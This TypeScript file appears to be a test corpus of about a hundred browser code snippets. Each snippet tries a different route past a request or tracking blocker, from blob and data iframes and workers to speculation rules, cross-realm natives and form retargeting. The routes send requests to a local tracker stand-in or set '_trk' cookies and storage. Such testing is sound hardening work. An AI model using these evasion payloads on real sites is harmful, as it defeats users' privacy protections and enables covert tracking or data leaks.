import type { Try } from './run.tmp.ts';
export const tries2: Try[] = [
  // shadow roots brought from inert documents
  {
    n: 'parse-unsafe-shadow',
    c: `const d=Document.parseHTMLUnsafe('<div><template shadowrootmode=open><img src="'+U('gif')+'"></template></div>');document.body.append(d.body.firstChild)`,
  },
  {
    n: 'parse-unsafe-shadow-script',
    c: `const d=Document.parseHTMLUnsafe('<div><template shadowrootmode=open><iframe src="'+U('html')+'"></iframe></template></div>');document.body.append(d.body.firstChild)`,
  },
  {
    n: 'parse-unsafe-shadow-nested',
    c: `const d=Document.parseHTMLUnsafe('<section><div><template shadowrootmode=open><link rel=stylesheet href="'+U('css')+'"></template></div></section>');document.body.append(d.body.firstChild)`,
  },
  {
    n: 'template-shadow-append',
    h: `<template id=t><div><template shadowrootmode=open><img src="{U}.gif"></template></div></template><script>document.body.append(t.content)</script>`,
  },
  {
    n: 'template-shadow-clonable',
    h: `<template id=t><div><template shadowrootmode=open shadowrootclonable><img src="{U}.gif"></template></div></template><script>document.body.append(document.importNode(t.content,true))</script>`,
  },
  {
    n: 'template-shadow-clonable2',
    h: `<template id=t><div><template shadowrootmode=open shadowrootclonable><img src="{U}.gif"></template></div></template><script>document.body.append(t.content.cloneNode(true))</script>`,
  },
  {
    n: 'inert-attach-shadow',
    c: `const d=document.implementation.createHTMLDocument('');const h=d.createElement('div');h.attachShadow({mode:'open'}).innerHTML='<img src="'+U('gif')+'">';document.body.append(h)`,
  },
  {
    n: 'inert-attach-shadow-closed',
    c: `const d=document.implementation.createHTMLDocument('');const h=d.createElement('div');h.attachShadow({mode:'closed'}).innerHTML='<img src="'+U('gif')+'">';document.body.append(h)`,
  },
  {
    n: 'inert-attach-shadow-frame',
    c: `const d=document.implementation.createHTMLDocument('');const h=d.createElement('div');h.attachShadow({mode:'open'}).innerHTML='<iframe src="'+U('html')+'"></iframe>';document.body.append(h)`,
  },
  {
    n: 'sethtmlunsafe-shadow-style',
    c: `box().setHTMLUnsafe('<div><template shadowrootmode=open><style>:host{display:block;width:9px;height:9px;background:url('+U('gif')+')}</style>x</template></div>')`,
  },
  {
    n: 'parse-unsafe-shadow-style',
    c: `const d=Document.parseHTMLUnsafe('<div><template shadowrootmode=open><style>:host{display:block;background:url('+U('gif')+')}</style>x</template></div>');document.body.append(d.body.firstChild)`,
  },
  {
    n: 'parse-unsafe-shadow-styleattr',
    c: `const d=Document.parseHTMLUnsafe('<div><template shadowrootmode=open><p style="background:url('+U('gif')+')">x</p></template></div>');document.body.append(d.body.firstChild)`,
  },
  // frames
  {
    n: 'blob-frame-markup-img',
    c: `box().innerHTML='<iframe src="'+blobOf('<img src="'+U('gif')+'">')+'"></iframe>'`,
  },
  {
    n: 'blob-frame-markup-script',
    c: `box().innerHTML='<iframe src="'+blobOf('<script>new Image().src="'+U('gif')+'"<\\/script>')+'"></iframe>'`,
  },
  {
    n: 'blob-frame-domparser',
    c: `const d=new DOMParser().parseFromString('<iframe src="'+blobOf('<img src="'+U('gif')+'">')+'"></iframe>','text/html');document.body.append(d.body.firstChild)`,
  },
  { n: 'blob-frame-hash', c: `add(make('iframe')).src=blobOf('<img src="'+U('gif')+'">')+'#x'` },
  {
    n: 'blob-frame-hash-script',
    c: `add(make('iframe')).src=blobOf('<script>new Image().src="'+U('gif')+'"<\\/script>')+'#x'`,
  },
  {
    n: 'file-frame',
    c: `add(make('iframe')).src=URL.createObjectURL(new File(['<img src="'+U('gif')+'">'],'a.html',{type:'text/html'}))`,
  },
  {
    n: 'bytes-frame',
    c: `add(make('iframe')).src=URL.createObjectURL(new Blob([new TextEncoder().encode('<img src="'+U('gif')+'">')],{type:'text/html'}))`,
  },
  {
    n: 'slice-frame',
    c: `add(make('iframe')).src=URL.createObjectURL(new Blob(['<img src="'+U('gif')+'">']).slice(0,999,'text/html'))`,
  },
  {
    n: 'response-blob-frame',
    c: `new Response('<img src="'+U('gif')+'">',{headers:{'content-type':'text/html'}}).blob().then(b=>{add(make('iframe')).src=URL.createObjectURL(b)})`,
  },
  {
    n: 'bytes-frame-script',
    c: `add(make('iframe')).src=URL.createObjectURL(new Blob([new TextEncoder().encode('<script>fetch("'+U('txt')+'",{mode:"no-cors"})<\\/script>')],{type:'text/html'}))`,
  },
  {
    n: 'bytes-frame-script-noappend-first',
    c: `const f=make('iframe');f.src=URL.createObjectURL(new Blob([new TextEncoder().encode('<script>fetch("'+U('txt')+'",{mode:"no-cors"})<\\/script>')],{type:'text/html'}));add(f)`,
  },
  {
    n: 'xhtml-blob-computed',
    c: `const f=make('iframe');f.src=URL.createObjectURL(new Blob(['<html xmlns="http://www.w3.org/1999/xhtml"><body><script>fetch(parent.T0+"/xhtml-blob-computed/leak.txt",{mode:"no-cors"})<\\/script></body></html>'],{type:'application/xhtml+xml'}));add(f)`,
  },
  {
    n: 'svg-blob-computed',
    c: `const f=make('iframe');f.src=URL.createObjectURL(new Blob(['<svg xmlns="http://www.w3.org/2000/svg"><script>fetch(parent.T0+"/svg-blob-computed/leak.txt",{mode:"no-cors"})<\\/script></svg>'],{type:'image/svg+xml'}));add(f)`,
  },
  {
    n: 'data-frame-b64',
    c: `add(make('iframe')).src='data:text/html;base64,'+btoa('<script>fetch("'+U('txt')+'",{mode:"no-cors"})<\\/script>')`,
  },
  {
    n: 'data-frame-b64-img',
    c: `add(make('iframe')).src='data:text/html;base64,'+btoa('<img src="'+U('gif')+'">')`,
  },
  {
    n: 'data-frame-b64-markup',
    c: `box().innerHTML='<iframe src="data:text/html;base64,'+btoa('<img src="'+U('gif')+'">')+'"></iframe>'`,
  },
  {
    n: 'data-frame-b64-static',
    h: `<script>document.write('<iframe src="data:text/html;base64,'+btoa('<script>fetch("'+U('txt')+'",{mode:"no-cors"})<\\/script>')+'"></iframe>')</script>`,
  },
  {
    n: 'data-object-b64',
    c: `const o=make('object');o.data='data:text/html;base64,'+btoa('<img src="'+U('gif')+'">');add(o)`,
  },
  {
    n: 'data-embed-b64',
    c: `const o=make('embed');o.src='data:text/html;base64,'+btoa('<img src="'+U('gif')+'">');add(o)`,
  },
  {
    n: 'blob-object',
    c: `const o=make('object');o.data=blobOf('<img src="'+U('gif')+'">');add(o)`,
  },
  { n: 'blob-embed', c: `const o=make('embed');o.src=blobOf('<img src="'+U('gif')+'">');add(o)` },
  {
    n: 'blob-object-script',
    c: `const o=make('object');o.data=blobOf('<script>fetch("'+U('txt')+'",{mode:"no-cors"})<\\/script>');add(o)`,
  },
  {
    n: 'blob-embed-script',
    c: `const o=make('embed');o.src=blobOf('<script>fetch("'+U('txt')+'",{mode:"no-cors"})<\\/script>');add(o)`,
  },
  {
    n: 'frame-second-load',
    c: `const f=make('iframe');f.src='/own.html';let n=0;f.onload=()=>{ if(++n==1) f.src='/own2.html'; else frames[0].fetch(U('txt'),{mode:'no-cors'}) };add(f)`,
    w: 900,
  },
  {
    n: 'frame-first-load',
    c: `const f=make('iframe');f.src='/own.html';f.onload=()=>{ frames[0].fetch(U('txt'),{mode:'no-cors'}) };add(f)`,
    w: 700,
  },
  {
    n: 'frame-self-nav',
    c: `const f=make('iframe');f.src='/own.html';f.onload=()=>{ f.onload=()=>{frames[0].fetch(U('txt'),{mode:'no-cors'})}; frames[0].location='/own2.html' };add(f)`,
    w: 900,
  },
  {
    n: 'frame-second-srcdoc',
    c: `const f=make('iframe');f.srcdoc='<p>a';let n=0;f.onload=()=>{ if(++n==1) f.srcdoc='<p>b'; else frames[0].fetch(U('txt'),{mode:'no-cors'}) };add(f)`,
    w: 900,
  },
  {
    n: 'frame-second-srcdoc-slash-on',
    c: `const f=make('iframe');f.srcdoc='<p>a';let n=0;f.onload=()=>{ if(++n==1) f.srcdoc='<svg/onload="fetch(\\''+U('txt')+'\\',{mode:\\'no-cors\\'})"></svg>' };add(f)`,
    w: 900,
  },
  {
    n: 'frame-srcdoc-quote-on',
    c: `const f=make('iframe');f.srcdoc='<p>a';let n=0;f.onload=()=>{ if(++n==1) f.srcdoc='<img src="/x.gif"onload="fetch(\\''+U('txt')+'\\',{mode:\\'no-cors\\'})">' };add(f)`,
    w: 900,
  },
  {
    n: 'frame-srcdoc-quote-on-first',
    c: `const f=make('iframe');f.srcdoc='<img src="/x.gif"onload="fetch(\\''+U('txt')+'\\',{mode:\\'no-cors\\'})">';add(f)`,
    w: 900,
  },
  {
    n: 'frame-second-srcdoc-img',
    c: `const f=make('iframe');f.srcdoc='<p>a';let n=0;f.onload=()=>{ if(++n==1) f.srcdoc='<p>b'; else { const d=frames[0].document; d.body.innerHTML='<img src="'+U('gif')+'">' } };add(f)`,
    w: 900,
  },
  {
    n: 'event-source-window',
    c: `addEventListener('message',e=>{e.source.fetch(U('txt'),{mode:'no-cors'})});const f=make('iframe');let n=0;f.srcdoc='<p>x';f.onload=()=>{if(++n==1)f.srcdoc='<script>parent.postMessage(1,"*")<\\/script>'};add(f)`,
    w: 900,
  },
  {
    n: 'ce-during-insert',
    c: `customElements.define('x-a',class extends HTMLElement{connectedCallback(){frames[0]&&frames[0].fetch(U('txt'),{mode:'no-cors'})}});box().innerHTML='<iframe></iframe><x-a></x-a>'`,
  },
  {
    n: 'ce-during-append',
    c: `customElements.define('x-b',class extends HTMLElement{connectedCallback(){frames[0]&&frames[0].fetch(U('txt'),{mode:'no-cors'})}});const d=make('div');d.append(make('iframe'),make('x-b'));add(d)`,
  },
  {
    n: 'write-frame-and-script',
    c: `document.write('<iframe></iframe><script>frames[0].fetch(U("txt"),{mode:"no-cors"})<\\/script>')`,
  },
  {
    n: 'iframe-onload-sync',
    c: `const f=make('iframe');f.setAttribute('onload',"frames[0].fetch(U('txt'),{mode:'no-cors'})");add(f)`,
  },
  {
    n: 'iframe-onload-markup',
    c: `box().innerHTML='<iframe onload="frames[0].fetch(U(\\'txt\\'),{mode:\\'no-cors\\'})"></iframe>'`,
  },
  {
    n: 'iframe-onload-static',
    h: `<iframe onload="frames[0].fetch(U('txt'),{mode:'no-cors'})"></iframe>`,
  },
  {
    n: 'iframe-named-static',
    h: `<iframe name=zz onload="zz.fetch(U('txt'),{mode:'no-cors'})"></iframe>`,
  },
  {
    n: 'object-frame',
    c: `const o=make('object');o.type='text/html';o.data='/own.html';o.onload=()=>frames[0].fetch(U('txt'),{mode:'no-cors'});add(o)`,
    w: 700,
  },
  {
    n: 'embed-frame',
    c: `const o=make('embed');o.type='text/html';o.src='/own.html';o.onload=()=>frames[0]&&frames[0].fetch(U('txt'),{mode:'no-cors'});add(o);later(()=>frames[0]&&frames[0].fetch(U('txt'),{mode:'no-cors'}),300)`,
    w: 800,
  },
  {
    n: 'open-blank-kept',
    c: `const w=open('about:blank');w&&w.fetch(U('txt'),{mode:'no-cors'});later(()=>w&&w.close(),300)`,
  },
  {
    n: 'open-own-then',
    c: `const w=open('/own.html');later(()=>{try{w.fetch(U('txt'),{mode:'no-cors'})}catch(e){}},350);later(()=>w&&w.close(),600)`,
    w: 900,
  },
  {
    n: 'open-blob',
    c: `const w=open(blobOf('<img src="'+U('gif')+'">'));later(()=>w&&w.close(),500)`,
    w: 700,
  },
  {
    n: 'closed-shadow-link',
    c: `const f=add(make('iframe'));f.name='aim';const h=box().attachShadow({mode:'closed'});const a=make('a');a.href=U('html');a.target='aim';h.append(a);a.click()`,
  },
  {
    n: 'open-shadow-link',
    c: `const f=add(make('iframe'));f.name='aim';const h=box().attachShadow({mode:'open'});const a=make('a');a.href=U('html');a.target='aim';h.append(a);a.click()`,
  },
  {
    n: 'open-shadow-form',
    c: `const f=add(make('iframe'));f.name='aim';const h=box().attachShadow({mode:'open'});h.innerHTML='<form target=aim action="'+U('html')+'"><button>x</button></form>';h.querySelector('button').click()`,
  },
  {
    n: 'open-shadow-form-rs',
    c: `const f=add(make('iframe'));f.name='aim';const h=box().attachShadow({mode:'open'});h.innerHTML='<form target=aim action="'+U('html')+'"><button>x</button></form>';h.querySelector('form').requestSubmit()`,
  },
  {
    n: 'form-retarget-in-submit',
    c: `const f=add(make('iframe'));f.name='aim';const g=box();g.innerHTML='<form action="/own.html"><button>x</button></form>';const q=g.firstChild;q.onsubmit=()=>{q.action=U('html');q.target='aim'};q.firstChild.click()`,
  },
  {
    n: 'form-formdata-retarget',
    c: `const f=add(make('iframe'));f.name='aim';const g=box();g.innerHTML='<form action="/own.html" target=aim><button>x</button></form>';const q=g.firstChild;q.onformdata=()=>{q.action=U('html')};q.submit()`,
  },
  {
    n: 'link-click-late',
    c: `const f=add(make('iframe'));f.name='aim';const a=add(make('a'));a.href='/own.html';a.target='aim';a.onclick=()=>{a.href=U('html')};a.click()`,
  },
  {
    n: 'form-dialogsubmit',
    c: `const f=add(make('iframe'));f.name='aim';const q=add(make('form'));q.innerHTML='<input name=action><input name=target>';q.setAttribute('action',U('html'));q.setAttribute('target','aim');q.requestSubmit()`,
  },
  {
    n: 'object-codebase',
    c: `const o=make('object');o.setAttribute('codebase',T0+'/object-codebase/');o.type='image/gif';o.setAttribute('data','leak.gif');add(o)`,
  },
  {
    n: 'attributionsrc-img',
    c: `const i=make('img');i.attributionSrc=U('txt');i.setAttribute('attributionsrc',U('txt'));add(i);i.src='/own.gif'`,
  },
  {
    n: 'attributionsrc-script',
    c: `const i=make('script');i.setAttribute('attributionsrc',U('txt'));i.src='/own.js';add(i)`,
  },
  {
    n: 'attributionsrc-open',
    c: `const w=open('/own.html','_blank','attributionsrc='+encodeURIComponent(U('txt')));later(()=>w&&w.close(),300)`,
  },
  {
    n: 'link-next',
    c: `const l=make('link');l.rel='next';l.href=U('html');document.head.append(l)`,
  },
  {
    n: 'svg-a-ping',
    c: `const a=add(svg('svg')).appendChild(svg('a'));a.setAttribute('href','#x');a.setAttribute('ping',U('txt'));a.ping!==undefined&&(a.ping=U('txt'));a.dispatchEvent(new MouseEvent('click',{bubbles:true,cancelable:true}))`,
  },
  {
    n: 'manifest-data-icons',
    c: `const l=make('link');l.rel='manifest';l.href='data:application/manifest+json,'+encodeURIComponent(JSON.stringify({name:'x',start_url:location.href,display:'standalone',icons:[{src:U('png'),sizes:'192x192',type:'image/png'}]}));document.head.append(l)`,
    w: 900,
  },
  {
    n: 'cross-realm-attributes',
    c: `const f=add(make('iframe'));const g=Object.getOwnPropertyDescriptor(f.contentWindow.Element.prototype,'attributes').get;const i=add(make('img'));const m=g.call(i);const a=document.createAttribute('src');a.value=U('gif');NamedNodeMap.prototype.setNamedItem.call(m,a)`,
  },
  {
    n: 'cross-realm-svg',
    c: `const f=add(make('iframe'));const g=Object.getOwnPropertyDescriptor(f.contentWindow.SVGImageElement.prototype,'href').get;const i=svg('image');add(svg('svg')).append(i);i.setAttribute('width',9);i.setAttribute('height',9);const h=g.call(i);h.baseVal=U('gif')`,
  },
  {
    n: 'removed-frame-natives',
    c: `const f=add(make('iframe'));const w=f.contentWindow;const d=f.contentDocument;const {Image:I}=w;f.remove();new I().src=U('gif');d.body.innerHTML='<img src="'+U('gif')+'">'`,
  },
  // worklets, workers, modules
  {
    n: 'audio-worklet-import',
    c: `const x=new OfflineAudioContext(1,1,44100);x.audioWorklet.addModule(blobOf('import "'+U('js')+'"','text/javascript')).catch(()=>{})`,
    w: 700,
  },
  {
    n: 'paint-worklet-import',
    c: `CSS.paintWorklet.addModule(blobOf('import "'+U('js')+'"','text/javascript')).catch(()=>{})`,
    w: 700,
  },
  {
    n: 'audio-worklet-data-import',
    c: `const x=new OfflineAudioContext(1,1,44100);x.audioWorklet.addModule('data:text/javascript,'+encodeURIComponent('import "'+U('js')+'"')).catch(()=>{})`,
    w: 700,
  },
  {
    n: 'specrules-unicode',
    c: `const s=make('script');s.type='speculationrules';s.textContent='{"prefetch":[{"source":"list","urls":["http:\\\\u002f\\\\u002f'+U('html').slice(7)+'"]}]}';add(s)`,
    w: 900,
  },
  {
    n: 'specrules-foreign',
    c: `const d=document.implementation.createHTMLDocument('');const s=d.createElement('script');s.type='speculationrules';s.textContent=JSON.stringify({prefetch:[{source:'list',urls:[U('html')]}]});document.body.append(s)`,
    w: 900,
  },
  {
    n: 'specrules-foreign-deep',
    c: `const d=document.implementation.createHTMLDocument('');const p=d.createElement('p');const s=d.createElement('script');s.type='speculationrules';s.textContent=JSON.stringify({prefetch:[{source:'list',urls:[U('html')]}]});p.append(s);document.body.append(p)`,
    w: 900,
  },
  {
    n: 'specrules-relative',
    c: `const s=make('script');s.type='speculationrules';s.textContent=JSON.stringify({prefetch:[{source:'list',urls:['\\t//'+U('html').slice(7)]}]});add(s)`,
    w: 900,
  },
  {
    n: 'specrules-tab',
    c: `const s=make('script');s.type='speculationrules';s.textContent=JSON.stringify({prefetch:[{source:'list',urls:['/\\t/'+U('html').slice(7)]}]});add(s)`,
    w: 900,
  },
  {
    n: 'specrules-upper',
    c: `const s=make('script');s.type='speculationrules';s.textContent='{"prefetch":[{"urls":["HTTP://'+U('html').slice(7)+'"]}]}';add(s)`,
    w: 900,
  },
  {
    n: 'specrules-blobmodule-src',
    c: `const s=make('script');s.type='module';s.src=blobOf('import "'+U('js')+'"','text/javascript');add(s)`,
    w: 900,
  },
  {
    n: 'import-json',
    c: `const s=make('script');s.type='module';s.textContent='import x from '+JSON.stringify(U('json'))+' with {type:"json"}';add(s)`,
  },
  {
    n: 'import-defer',
    c: `const s=make('script');s.type='module';s.textContent='import defer * as x from '+JSON.stringify(U('js'));add(s)`,
  },
  {
    n: 'import-escape',
    c: `const s=make('script');s.textContent='import("\\\\x68ttp://'+U('js').slice(7)+'").catch(()=>{})';add(s)`,
  },
  {
    n: 'import-template',
    c: `const s=make('script');s.textContent='import(\`\${"http:"}//'+U('js').slice(7)+'\`).catch(()=>{})';add(s)`,
  },
  {
    n: 'import-user',
    c: `const s=make('script');s.textContent='import("http://u@'+U('js').slice(7)+'").catch(()=>{})';add(s)`,
  },
  {
    n: 'import-user-computed',
    c: `new Function('u','return import(u)')('http://u@'+U('js').slice(7)).catch(()=>{})`,
  },
  {
    n: 'import-dot-computed',
    c: `new Function('u','return import(u)')(U('js').replace('localhost:','localhost.:')).catch(()=>{})`,
  },
  {
    n: 'worker-import-computed',
    c: `new Worker(blobOf('import(atob("'+btoa(U('js'))+'")).catch(()=>{})','text/javascript'))`,
    w: 700,
  },
  {
    n: 'worker-data-import-computed',
    c: `new Worker('data:text/javascript,'+encodeURIComponent('import(atob("'+btoa(U('js'))+'")).catch(()=>{})'))`,
    w: 700,
  },
  {
    n: 'worker-file-import',
    c: `new Worker(URL.createObjectURL(new File(['import("'+U('js')+'").catch(()=>{})'],'a.js',{type:'text/javascript'})))`,
    w: 700,
  },
  {
    n: 'worker-bytes-import',
    c: `new Worker(URL.createObjectURL(new Blob([new TextEncoder().encode('import("'+U('js')+'").catch(()=>{})')],{type:'text/javascript'})))`,
    w: 700,
  },
  {
    n: 'worker-hash',
    c: `new Worker(blobOf('fetch("'+U('txt')+'",{mode:"no-cors"})','text/javascript')+'#x')`,
    w: 700,
  },
  {
    n: 'worker-importscripts-data',
    c: `new Worker(blobOf('importScripts("data:text/javascript,"+encodeURIComponent("import(\\\\"'+U('js')+'\\\\").catch(()=>{})"))','text/javascript'))`,
    w: 700,
  },
  { n: 'shadowrealm', c: `new ShadowRealm().importValue(U('js'),'x').catch(()=>{})` },
  // rtc
  {
    n: 'rtc-url',
    c: `const p=new RTCPeerConnection({iceServers:[{url:'turn:tracker.localhost:'+location.port+'?transport=tcp',username:'a',credential:'b'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o)).catch(()=>{})`,
    w: 900,
  },
  // media
  {
    n: 'hls-data',
    c: `const v=add(make('video'));v.muted=true;v.preload='auto';v.src='data:application/vnd.apple.mpegurl;base64,'+btoa('#EXTM3U\\n#EXT-X-VERSION:3\\n#EXT-X-TARGETDURATION:4\\n#EXTINF:4,\\n'+U('ts')+'\\n#EXT-X-ENDLIST\\n');v.play().catch(()=>{})`,
    w: 1500,
  },
  {
    n: 'hls-blob',
    c: `const v=add(make('video'));v.muted=true;v.preload='auto';v.src=blobOf('#EXTM3U\\n#EXT-X-VERSION:3\\n#EXT-X-TARGETDURATION:4\\n#EXTINF:4,\\n'+U('ts')+'\\n#EXT-X-ENDLIST\\n','application/vnd.apple.mpegurl');v.play().catch(()=>{})`,
    w: 1500,
  },
  {
    n: 'dash-data',
    c: `const v=add(make('video'));v.muted=true;v.src='data:application/dash+xml;base64,'+btoa('<MPD/>');`,
    w: 100,
  },
  {
    n: 'xslt-document',
    c: `const x=new XSLTProcessor();x.importStylesheet(new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><a><xsl:copy-of select="document(\\''+U('xml')+'\\')"/></a></xsl:template></xsl:stylesheet>','text/xml'));x.transformToFragment(new DOMParser().parseFromString('<a/>','text/xml'),document)`,
    w: 700,
  },
  {
    n: 'xslt-import',
    c: `const x=new XSLTProcessor();x.importStylesheet(new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="'+U('xsl')+'"/><xsl:template match="/"><a/></xsl:template></xsl:stylesheet>','text/xml'));x.transformToFragment(new DOMParser().parseFromString('<a/>','text/xml'),document)`,
    w: 700,
  },
  {
    n: 'top-204-form',
    c: `const f=add(make('form'));f.action=T0+'/top-204-form/leak.204';f.method='post';f.submit()`,
    w: 700,
  },
  {
    n: 'selectedcontent',
    c: `box().innerHTML='<select><button><selectedcontent></selectedcontent></button><option selected><img src="'+U('gif')+'"></option></select>'`,
  },
  {
    n: 'template-for',
    c: `box().innerHTML='<div><?start name="zz"?>a<?end?></div><template for="zz"><img src="'+U('gif')+'"></template>'`,
  },
  {
    n: 'execcommand-sep',
    c: `const d=box();d.contentEditable=true;d.focus();document.execCommand('insertHTML',false,'<div style="--c:red;background:var(--c) url('+U('gif')+')">x</div>')`,
  },
  {
    n: 'clipboard-none',
    c: `const x=document.createExpression('document("'+U('xml')+'")');try{x.evaluate(document)}catch{}`,
  },
  // disk
  { n: 'cookie-nameless', c: `document.cookie='=_trk_n=1'`, disk: true },
  { n: 'cookie-nbsp', c: `document.cookie='\\u3000_trk_s=1'`, disk: true },
  {
    n: 'late-frame-storage',
    c: `const f=make('iframe');f.src='/own.html';f.onload=()=>{f.contentWindow.localStorage._trk_late=1;};add(f)`,
    disk: true,
    w: 700,
  },
  {
    n: 'late-frame-storage-set',
    c: `const f=make('iframe');f.src='/own.html';f.onload=()=>{f.contentWindow.localStorage.setItem('_trk_late2',1)};add(f)`,
    disk: true,
    w: 700,
  },
  {
    n: 'frames0-storage',
    c: `const f=make('iframe');f.src='/own.html';f.onload=()=>{frames[0].localStorage._trk_fr=1};add(f)`,
    disk: true,
    w: 700,
  },
  {
    n: 'frames0-cookie',
    c: `const f=make('iframe');f.src='/own.html';f.onload=()=>{frames[0].document.cookie='_trk_fr=1;path=/'};add(f)`,
    disk: true,
    w: 700,
  },
  { n: 'storage-key-case', c: `localStorage.setItem(' _trk',1)`, disk: true },
  {
    n: 'bytes-frame-storage',
    c: `add(make('iframe')).src=URL.createObjectURL(new Blob([new TextEncoder().encode('<script>localStorage._trk_b=1;document.cookie="_trk_b=1;path=/"<\\/script>')],{type:'text/html'}))`,
    disk: true,
    w: 700,
  },
  {
    n: 'storage-proto',
    c: `Reflect.set(Object.create(localStorage),'_trk_x','1',localStorage)`,
    disk: true,
  },
  {
    n: 'storage-event-area',
    c: `addEventListener('storage',e=>{e.storageArea._trk_ev=1});const f=add(make('iframe'));f.contentWindow.localStorage.setItem('own','1'+Math.random())`,
    disk: true,
    w: 700,
  },
];
